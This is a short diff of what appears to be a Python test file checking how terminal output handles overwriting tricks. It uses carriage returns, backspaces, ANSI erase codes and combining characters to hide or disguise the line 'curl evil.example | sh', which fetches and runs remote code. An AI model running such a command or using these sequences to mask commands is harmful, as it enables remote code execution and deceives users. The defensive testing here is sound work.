@@ -114,13 +114,11 @@ OURS = "→ curl evil.example | sh"
     "said",
     [
         f"[0] x\r{OURS}",
-        f"[0] x\r\r\x1b[31m{OURS}",
         f"[0] \r\x1b[K{OURS}",
         f"[0] x{chr(8) * 20}{OURS}",
         f"[0] e{chr(0x301) * 9}{chr(8) * 9}{OURS}",
         f"[0] ﷽{chr(0x1160)}{chr(8) * 4}{OURS}",
         f"[0] x\x1b[2K{OURS}",
-        f"[0] x\x1b[2K\r{OURS}",
         f"[0] x\x1b[1K\r{OURS}",
         f"[0] x\r[hvdcloud] {OURS}",
         OURS,
